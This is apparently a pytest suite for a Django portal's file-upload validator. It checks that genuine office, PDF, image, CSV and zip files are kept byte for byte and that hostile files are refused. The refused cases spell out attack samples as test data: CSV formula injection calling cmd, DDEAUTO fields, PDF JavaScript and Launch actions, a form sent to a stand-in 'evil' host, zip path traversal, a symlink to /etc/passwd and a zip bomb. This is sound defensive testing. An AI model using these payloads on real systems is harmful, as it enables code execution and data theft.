"""Uploads: what is taken comes back byte for byte, what is dangerous or false is refused with a sentence."""

import hashlib
import io
import stat
import struct
import zlib
from datetime import datetime
from functools import cache
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import weasyprint
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from ninghai.files import Purpose, UnacceptableFile, store_bytes, store_upload
from ninghai.files.kinds import KINDS
from ninghai.files.upload import look_into
from ninghai.models import StoredFile, User
from tests.ninghai.compound_file import compound_file

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("cast")]

AT = datetime(2018, 11, 20, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
WORD = b"\xec\xa5" + bytes(100)
SHEET_STREAM = struct.pack("<HH", 0x0809, 16) + bytes(16)


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as container:
        for name, data in entries.items():
            container.writestr(name, data)
    return buffer.getvalue()


def docx() -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def docx_with(name: str, data: bytes) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", name: data})


def xlsx(*, hidden: bool = False) -> bytes:
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "预算"
    if hidden:
        book.create_sheet("底稿").sheet_state = "hidden"
    book.save(buffer)
    return buffer.getvalue()


def pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n" + b"\n".join(objects) + b"\n"
    return body + b"xref\n0 0\ntrailer\n<<>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


@cache
def pdf_with_table() -> bytes:
    table = weasyprint.Attachment(file_obj=io.BytesIO("单位,得分\n".encode()), name="附件1.csv")
    return weasyprint.HTML(string="<p>通报</p>").write_pdf(attachments=[table])


def object_stream(objects: bytes, *, filters: bytes = b"/FlateDecode", extra: bytes = b"", times: int = 1) -> bytes:
    packed = objects
    for _ in range(times):
        packed = zlib.compress(packed)
    head = b"5 0 obj\n<</Type/ObjStm/Filter%s/Length %d/N 1/First 4%s>>stream\n" % (filters, len(packed), extra)
    return head + packed + b"\nendstream\nendobj"


SCRIPT = b"1 0 <</S/JavaScript/JS(1)>>"


def picture(form: str, size: tuple[int, int] = (20, 10)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size).save(buffer, form)
    return buffer.getvalue()


def linked_zip() -> bytes:
    buffer, link = io.BytesIO(), ZipInfo("a.pdf")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with ZipFile(buffer, "w") as container:
        container.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def encrypted_zip() -> bytes:
    """A zip whose entry says that it is encrypted."""
    data = bytearray(zipped({"a.pdf": pdf()}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def huge_png() -> bytes:
    """A PNG of a few bytes that says it has 10 billion pixels."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    body = struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return b"\x89PNG\r\n\x1a\n" + body + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))


def clerk() -> User:
    return User.objects.get(username="finance-clerk")


def take(name: str, data: bytes, purpose: Purpose = Purpose.EVIDENCE, *, by: User | None = None) -> StoredFile:
    return store_upload(upload=SimpleUploadedFile(name, data), purpose=purpose, by=by or clerk(), at=AT)


@cache
def real_pdf() -> bytes:
    return weasyprint.HTML(string="<p>预算公开</p>").write_pdf()


CHART_BOOK = "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"
HONEST = {
    "预算.pdf": real_pdf,
    "说明.docx": docx,
    "明细.xlsx": xlsx,
    "汇报.pptx": lambda: zipped({"ppt/presentation.xml": b"<p/>", CHART_BOOK: xlsx()}),
    "公文.ofd": lambda: zipped({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<d/>"}),
    "旧文.doc": lambda: compound_file({"WordDocument": WORD, "1Table": b""}),
    "旧表.xls": lambda: compound_file({"Workbook": SHEET_STREAM}),
    "旧片.ppt": lambda: compound_file({"PowerPoint Document": b"\x0f\x00\xe8\x03"}),
    "文字.wps": lambda: compound_file({"WordDocument": WORD}),
    "表格.et": lambda: compound_file({"Workbook": SHEET_STREAM}),
    "现场.JPG": lambda: picture("JPEG"),
    "现场.jpeg": lambda: picture("JPEG"),
    "截图.png": lambda: picture("PNG"),
    "台账.csv": lambda: "科目,增减（%）\r\n教育支出,-3.5\r\n住房保障,—\r\n其他,-\r\n".encode("gb18030"),
    "材料.zip": lambda: zipped({"一/预算.pdf": real_pdf(), "明细.xlsx": xlsx(), "台账.csv": b"a,b\n"}),
}
RELATION = b'<Relationship Type="http://x/%s" Target="http://evil" TargetMode="External"/>'
MACRO_RECORD = struct.pack("<HHIBB", 0x0085, 6, 0, 0, 1)
PPT_MACRO = b"\x0f\x00\xff\x03\x14\x00\x00\x00\x02\x00\x00\x04\x0c\x00\x00\x00"
REFUSED = {
    "a program": ("病毒.exe", lambda: b"MZ" + bytes(100)),
    "no extension": ("预算", real_pdf),
    "a page": ("页.html", lambda: b"<script>1</script>"),
    "a drawing with script": ("图.svg", lambda: b"<svg onload='1'/>"),
    "macro formats": ("表.docm", docx),
    "binary workbook": ("表.xlsb", xlsx),
    "an empty file": ("空.pdf", lambda: b""),
    "an empty table": ("表.csv", lambda: b"\r\n"),
    "a program called table": ("表.csv", lambda: b"MZ" + bytes(100)),
    "a workbook called table": ("表.csv", xlsx),
    "a formula in a table": ("表.csv", lambda: b"a,=cmd|'/C calc'!A0\n"),
    "a formula behind a space": ("表.csv", lambda: b'a;" +1+1"\n'),
    "a formula in full width": ("表.csv", lambda: "甲\t＝1+1\n".encode()),
    "a formula that is nearly a number": ("表.csv", lambda: b"a,-3+cmd|' /C calc'!A0\n"),
    "a cell without end": ("表.csv", lambda: b'a,"' + b"x" * 200_000),
    "a program called PDF": ("病毒.pdf", lambda: b"MZ" + bytes(100)),
    "a page called picture": ("图.png", lambda: b"<html>"),
    "a docx called PDF": ("文.pdf", docx),
    "a zip called docx": ("文.docx", lambda: zipped({"a.pdf": pdf()})),
    "an xlsx called docx": ("文.docx", xlsx),
    "a JPEG called PNG": ("图.png", lambda: picture("JPEG")),
    "a PNG called JPEG": ("图.jpg", lambda: picture("PNG")),
    "a workbook called doc": ("文.doc", lambda: compound_file({"Workbook": SHEET_STREAM})),
    "a cut-off PDF": ("文.pdf", lambda: real_pdf()[:-600]),
    "a PDF with script": ("文.pdf", lambda: pdf(b"1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj")),
    "a PDF with script in disguise": ("文.pdf", lambda: pdf(b"1 0 obj <</S/Java#53cript/JS(1)>> endobj")),
    "a PDF with script in an object stream": ("文.pdf", lambda: pdf(object_stream(b"1 0 <</S/JavaScript/JS(1)>>"))),
    "a PDF with script far down an object stream": ("文.pdf", lambda: pdf(object_stream(bytes(21 << 20) + SCRIPT))),
    "a PDF with script packed twice": (
        "文.pdf",
        lambda: pdf(object_stream(SCRIPT, filters=b"[/FlateDecode/FlateDecode]", times=2)),
    ),
    "a PDF with script packed in another way": (
        "文.pdf",
        lambda: pdf(
            b"5 0 obj\n<</Type/ObjStm/Filter/ASCIIHexDecode/N 1>>stream\n" + SCRIPT.hex().encode() + b">\nendstream"
        ),
    ),
    "a PDF with script between predicted bytes": (
        "文.pdf",
        lambda: pdf(object_stream(SCRIPT, extra=b"/DecodeParms<</Predictor 12>>")),
    ),
    "a PDF with script behind a long dictionary": (
        "文.pdf",
        lambda: pdf(object_stream(SCRIPT, extra=b" " * 5000)),
    ),
    "a PDF that plays a script": ("文.pdf", lambda: pdf(b"1 0 obj <</S/Rendition/JS(app.alert(1))>> endobj")),
    "a PDF that opens a file inside": ("文.pdf", lambda: pdf(b"1 0 obj <</S/GoToE/T<</R/C>>>> endobj")),
    "a PDF with a file pinned to a page": (
        "文.pdf",
        lambda: pdf(b"1 0 obj <</Subtype/FileAttachment/FS 2 0 R>> endobj"),
    ),
    "a PDF with a file that names no type": (
        "文.pdf",
        lambda: pdf(b"1 0 obj <</F(a.exe)/EF %x\n<</F 2 0 R>>>> endobj"),
    ),
    "a PDF with tables inside that others have made": ("通报.pdf", lambda: pdf_with_table()),
    "a PDF that starts programs": ("文.pdf", lambda: pdf(b"1 0 obj <</S/Launch/F(cmd.exe)>> endobj")),
    "a PDF with a file inside": ("文.pdf", lambda: pdf(b"1 0 obj <</Type/EmbeddedFile>> endobj")),
    "macros in a docx": ("文.docx", lambda: docx_with("word/vbaProject.bin", b"x")),
    "macro sheets": ("表.xlsx", lambda: zipped({"xl/workbook.xml": b"<w/>", "xl/macrosheets/sheet1.xml": b"<m/>"})),
    "controls": ("文.docx", lambda: docx_with("word/activeX/activeX1.xml", b"<a/>")),
    "a macro content type": (
        "文.docx",
        lambda: zipped({"[Content_Types].xml": b"macroEnabled.main+xml", "word/document.xml": b"<w/>"}),
    ),
    "an object in a docx": ("文.docx", lambda: docx_with("word/embeddings/oleObject1.bin", b"x")),
    "a macro book in a chart": (
        "片.pptx",
        lambda: zipped(
            {
                "ppt/presentation.xml": b"<p/>",
                CHART_BOOK: zipped({"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x"}),
            }
        ),
    ),
    "an outside template": (
        "文.docx",
        lambda: docx_with("word/_rels/settings.xml.rels", RELATION % b"attachedTemplate"),
    ),
    "an outside object": ("文.docx", lambda: docx_with("word/_rels/document.xml.rels", RELATION % b"oleObject")),
    "entities": (
        "文.docx",
        lambda: docx_with("word/styles.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>'),
    ),
    "entities in UTF-16": (
        "文.docx",
        lambda: docx_with("word/styles.xml", "<!DOCTYPE a>".encode("utf-16")),
    ),
    "entities behind a long comment": (
        "文.docx",
        lambda: docx_with("word/styles.xml", b"<!--" + b" " * 5000 + b"--><!DOCTYPE a>"),
    ),
    "entities in an encoding of mainframes": (
        "文.docx",
        lambda: docx_with(
            "word/styles.xml", b'<?xml version="1.0" encoding="cp037"?>' + "<!DOCTYPE a>".encode("cp037")
        ),
    ),
    "entities at the seam of two pieces": (
        "表.xlsx",
        lambda: zipped({"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": b" " * (2**20 - 4) + b"<!DOCTYPE a>"}),
    ),
    "comments without end": ("文.docx", lambda: docx_with("word/a.xml", b"<!--" * 100_000)),
    "comments without number": ("文.docx", lambda: docx_with("word/a.xml", b"<!---->" * 100_000)),
    "such a field in letters by number": (
        "文.docx",
        lambda: docx_with("word/a.xml", b"<w:instrText>&#68;&#x44;EAUTO c</w:instrText>"),
    ),
    "such a field in CDATA": (
        "文.docx",
        lambda: docx_with("word/a.xml", b"<w:instrText><![CDATA[DDE c]]></w:instrText>"),
    ),
    "such a field around a comment": (
        "文.docx",
        lambda: docx_with("word/a.xml", b"<w:instrText>DD<!-- x -->E c</w:instrText>"),
    ),
    "such a field between false comments": (
        "文.docx",
        lambda: docx_with("word/a.xml", b"<?x <!-- ?><w:instrText>DDE c</w:instrText><?x --> ?>"),
    ),
    "such a field behind a quote": ("文.docx", lambda: docx_with("word/a.xml", b'<w:fldSimple w:instr="\' DDE c"/>')),
    "an outside template in letters by number": (
        "文.docx",
        lambda: docx_with(
            "word/_rels/settings.xml.rels", (RELATION % b"attachedTemplate").replace(b"External", b"&#69;xternal")
        ),
    ),
    "an outside template behind a sign": (
        "文.docx",
        lambda: docx_with(
            "word/_rels/settings.xml.rels",
            (RELATION % b"attachedTemplate").replace(b"<Relationship ", b'<Relationship Id=">" '),
        ),
    ),
    "an outside object of the whole": ("文.docx", lambda: docx_with("_rels/.rels", RELATION % b"oleObject")),
    "an object in a folder of pictures": (
        "文.docx",
        lambda: docx_with(
            "word/_rels/document.xml.rels",
            b'<Relationships><Relationship Type="http://x/oleObject" Target="media/image1.png"/></Relationships>',
        ),
    ),
    "a macro content type in capitals": (
        "文.docx",
        lambda: zipped({"[CONTENT_TYPES].XML": b"macroEnabled.main+xml", "word/document.xml": b"<w/>"}),
    ),
    "two parts of one name": (
        "文.docx",
        lambda: zipped({"word/document.xml": b"<w/>", "word/Document.xml": b"<w/>"}),
    ),
    "a field that starts a program": (
        "文.docx",
        lambda: docx_with("word/footer1.xml", b'<w:instrText xml:space="preserve"> DDEAUTO cmd /k calc </w:instrText>'),
    ),
    "such a field in pieces": (
        "文.docx",
        lambda: docx_with("word/a.xml", b"<w:instrText>DD</w:instrText><w:x/><w:instrText>EAUTO c</w:instrText>"),
    ),
    "such a field in short": ("文.docx", lambda: docx_with("word/a.xml", b'<w:fldSimple w:instr="DDE cmd"/>')),
    "a link that starts a program in an xlsx": (
        "表.xlsx",
        lambda: zipped(
            {"xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"<x:ddeLink ddeService='cmd'/>"}
        ),
    ),
    "a page inside a docx": (
        "文.docx",
        lambda: docx_with(
            "word/_rels/document.xml.rels", b'<Relationship Type="http://x/aFChunk" Target="/word/a.html"/>'
        ),
    ),
    "a PDF whose files stand behind a long comment": (
        "文.pdf",
        lambda: pdf(b"1 0 obj <</F(a.exe)/EF %" + b"x" * 300 + b"\n<</F 2 0 R>>>> endobj"),
    ),
    "a PDF whose files stand behind many comments": (
        "文.pdf",
        lambda: pdf(b"1 0 obj <</F(a.exe)/EF " + b"%x\n" * 50 + b"<</F 2 0 R>>>> endobj"),
    ),
    "a PDF of comments in comments": ("文.pdf", lambda: pdf(b"/EF%" * 500_000)),
    "a PDF of lines in lines": ("文.pdf", lambda: pdf(b"/EF\n%" * 500_000)),
    "a PDF of streams in streams": ("文.pdf", lambda: pdf(b"/ObjStm stream\n" * 300_000 + b"endstream")),
    "a PDF of streams without end": ("文.pdf", lambda: pdf(b"stream\n" * 300_000)),
    "a PDF whose objects are too much together": (
        "文.pdf",
        lambda: pdf(*[object_stream(bytes(19 << 20))] * 12),
    ),
    "a number without end": ("表.csv", lambda: b"a,-" + b"1" * 130_000 + b"x\n" + b"b,-1" + b" " * 130_000 + b"x\n"),
    "a PDF that sends a form": ("文.pdf", lambda: pdf(b"1 0 obj <</S/SubmitForm/F(http://evil)>> endobj")),
    "macros in a doc": ("文.doc", lambda: compound_file({"WordDocument": WORD, "Macros/VBA/dir": b"x"})),
    "macros in an xls": ("表.xls", lambda: compound_file({"Workbook": SHEET_STREAM, "_VBA_PROJECT_CUR/PROJECT": b"x"})),
    "a macro sheet in an xls": ("表.xls", lambda: compound_file({"Workbook": SHEET_STREAM + MACRO_RECORD})),
    "macros in a ppt": ("片.ppt", lambda: compound_file({"PowerPoint Document": PPT_MACRO})),
    "macros in a wps": ("文.wps", lambda: compound_file({"WordDocument": WORD, "Macros/VBA/dir": b"x"})),
    "an object in a doc": (
        "文.doc",
        lambda: compound_file({"WordDocument": WORD, "ObjectPool/_1/\x01Ole10Native": b"x"}),
    ),
    "a locked doc": ("文.doc", lambda: compound_file({"WordDocument": WORD[:10] + b"\x00\x01" + WORD[12:]})),
    "a locked xls": ("表.xls", lambda: compound_file({"Workbook": SHEET_STREAM + struct.pack("<HH", 0x2F, 0)})),
    "a locked docx": ("文.doc", lambda: compound_file({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
    "a broken doc": ("文.doc", lambda: compound_file({"WordDocument": WORD})[:600]),
    "a broken docx": ("文.docx", lambda: docx()[:-30]),
    "a path out of the archive": ("包.zip", lambda: zipped({"../../etc/a.pdf": pdf()})),
    "a path from the root": ("包.zip", lambda: zipped({"/etc/a.pdf": pdf()})),
    "a path with backslashes": ("包.zip", lambda: zipped({"..\\..\\a.pdf": pdf()})),
    "a drive": ("包.zip", lambda: zipped({"C:/a.pdf": pdf()})),
    "a link": ("包.zip", linked_zip),
    "a locked archive": ("包.zip", encrypted_zip),
    "a bomb": ("包.zip", lambda: zipped({"a.png": bytes(30 * 1024 * 1024)})),
    "many entries": ("包.zip", lambda: zipped({f"{number}.png": b"" for number in range(2_001)})),
    "an empty archive": ("包.zip", lambda: zipped({})),
    "an archive in an archive": ("包.zip", lambda: zipped({"内.zip": zipped({"a.pdf": pdf()})})),
    "a program in an archive": ("包.zip", lambda: zipped({"说明.pdf": pdf(), "run.bat": b"del"})),
    "a macro document in an archive": ("包.zip", lambda: zipped({"a.docx": docx_with("word/vbaProject.bin", b"x")})),
    "a broken picture": ("图.png", lambda: picture("PNG")[:-20]),
    "a picture of ten billion pixels": ("图.png", huge_png),
}


# --- What is taken -------------------------------------------------------------------------------------


def test_an_honest_file_of_every_kind_is_tried():
    assert {name.rpartition(".")[2].lower() for name in HONEST} == set(KINDS)


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_comes_back_byte_for_byte(name):
    data = HONEST[name]()

    stored = take(name, data)

    assert stored.file.open().read() == data
    assert (stored.original_name, stored.size) == (name, len(data))
    assert stored.sha256 == hashlib.sha256(data).hexdigest()


def test_a_table_that_is_refused_says_where_the_formula_stands():
    with pytest.raises(UnacceptableFile, match="第2行第3列以“=”开头"):
        take("表.csv", "甲,乙,丙\n1,2,=1+1\n".encode())


def test_the_stored_path_tells_nothing():
    stored = take("举报材料.pdf", real_pdf())

    assert stored.file.name == f"{stored.pk.hex[:2]}/{stored.pk.hex}"


def test_the_portal_s_own_paper_with_its_tables_comes_back_as_evidence():
    made, by = pdf_with_table(), clerk()
    store_bytes(data=made, name="通报.pdf", media_type="application/pdf", by=None, at=AT)

    assert take("通报.pdf", made, by=by).sha256 == hashlib.sha256(made).hexdigest()
    assert take("材料.zip", zipped({"通报.pdf": made}), by=by).original_name == "材料.zip"
    with pytest.raises(UnacceptableFile, match="夹带"):
        take("通报.pdf", made.replace(b"%PDF-1.7", b"%PDF-1.6"), by=by)


def test_what_a_person_has_stored_is_not_the_portal_s_own():
    made = pdf_with_table()
    by = clerk()
    store_bytes(data=made, name="通报.pdf", media_type="application/pdf", by=by, at=AT)

    with pytest.raises(UnacceptableFile, match="夹带"):
        take("通报.pdf", made, by=by)


def test_objects_that_office_programs_pack_together_are_read():
    stored = take("文.pdf", pdf(object_stream(b"1 0 <</Type/Catalog>>"), object_stream(b"2 0 <</Type/Pages>>")))

    assert stored.original_name == "文.pdf"


# --- What is refused -----------------------------------------------------------------------------------


COSTLY = ("a PDF of streams in streams", "a PDF whose objects are too much together")  # seconds of computing each


@pytest.mark.parametrize(
    "what", [pytest.param(what, marks=pytest.mark.exhaustive if what in COSTLY else []) for what in REFUSED]
)
def test_a_dangerous_or_false_file_is_refused_with_a_sentence(what):
    name, make = REFUSED[what]

    with pytest.raises(UnacceptableFile) as refusal:
        take(name, make())

    assert refusal.value.messages[0].endswith("。")
    assert not StoredFile.objects.exists()


def test_an_archive_of_documents_that_unpack_into_much_is_refused(monkeypatch):
    """Each by itself is small enough."""
    monkeypatch.setattr("ninghai.files.upload.LARGEST_CONTENT", 50_000)
    sheets = docx_with("word/media/image1.bin", b"\x00" * 20_000)

    with pytest.raises(UnacceptableFile, match="压缩包里的文件展开后过大"):
        looked_into("包.zip", zipped({f"{number}.docx": sheets for number in range(3)}))


def test_a_document_whose_text_would_fill_the_memory_is_refused(monkeypatch):
    monkeypatch.setattr("ninghai.files.office_document.LONGEST_TEXT", 5_000)

    with pytest.raises(UnacceptableFile, match="展开后过大"):
        looked_into("文.docx", docx_with("word/styles.xml", b"<w:x/>" * 1_000))


def looked_into(name: str, data: bytes) -> None:
    """As the sandbox does it, but here, where a test may set its bounds lower."""
    look_into(io.BytesIO(data), label=name, size=len(data), purpose=Purpose.EVIDENCE, holding={})


def test_a_file_over_the_limit_is_refused(settings):
    settings.UPLOAD_LIMIT = 1024

    with pytest.raises(UnacceptableFile, match="超过"):
        take("大.pdf", real_pdf())


@pytest.mark.parametrize("name", ["旧文.doc", "旧表.xls", "旧片.ppt", "文字.wps", "表格.et", "材料.zip"])
def test_what_cannot_be_looked_into_completely_is_not_published(name):
    with pytest.raises(UnacceptableFile):
        take(name, HONEST[name](), Purpose.PUBLICATION)


def test_hidden_sheets_are_not_published():
    with pytest.raises(UnacceptableFile, match="隐藏"):
        take("表.xlsx", xlsx(hidden=True), Purpose.PUBLICATION)


def test_hidden_sheets_may_be_evidence():
    assert take("表.xlsx", xlsx(hidden=True)).pk


def test_an_encrypted_pdf_is_not_published():
    with pytest.raises(UnacceptableFile, match="无法检查"):
        take("文.pdf", pdf(b"1 0 obj <</Encrypt 2 0 R>> endobj"), Purpose.PUBLICATION)
